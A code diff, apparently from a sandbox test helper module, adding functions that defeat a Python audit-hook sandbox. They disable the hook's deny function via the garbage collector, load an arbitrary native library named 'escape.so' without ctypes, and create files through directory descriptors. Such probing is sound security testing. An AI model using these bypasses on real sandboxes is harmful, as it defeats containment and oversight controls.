@@ -76,3 +76,52 @@ def load_native_code() -> str:
 
 def add(a: int, b: int) -> int:
     return a + b
+
+
+def _disarm_audit_hook() -> int:
+    """Finds the child's audit hook through the garbage collector and makes its ``deny`` a no-op."""
+    import gc
+    import types
+
+    disarmed = 0
+    for obj in gc.get_objects():
+        if isinstance(obj, types.FunctionType) and obj.__name__ == "hook" and obj.__closure__:
+            for cell in obj.__closure__:
+                if getattr(cell.cell_contents, "__name__", "") == "deny":
+                    cell.cell_contents = lambda *args: None
+                    disarmed += 1
+    return disarmed
+
+
+def connect_without_audit_hook(host: str, port: int) -> str:
+    _disarm_audit_hook()
+    return open_socket(host, port)
+
+
+def write_without_audit_hook(path: str) -> str:
+    _disarm_audit_hook()
+    return write_file(path)
+
+
+def load_native_extension(library: str) -> str:
+    """Writes a shared object (hex) into the working directory and loads it without ctypes."""
+    import _imp
+
+    class Spec:  # all that create_dynamic reads of a module spec
+        name, origin = "escape", os.path.abspath("escape.so")
+
+    with open(Spec.origin, "wb") as handle:
+        handle.write(bytes.fromhex(library))
+    return str(_imp.create_dynamic(Spec))
+
+
+def create_beside(directory: str, name: str) -> str:
+    """A relative name opened against a directory descriptor, not the working directory."""
+    fd = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
+    os.close(os.open(name, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
+    return "created"
+
+
+def make_fifo(path: str) -> str:
+    os.mkfifo(path)
+    return "made"
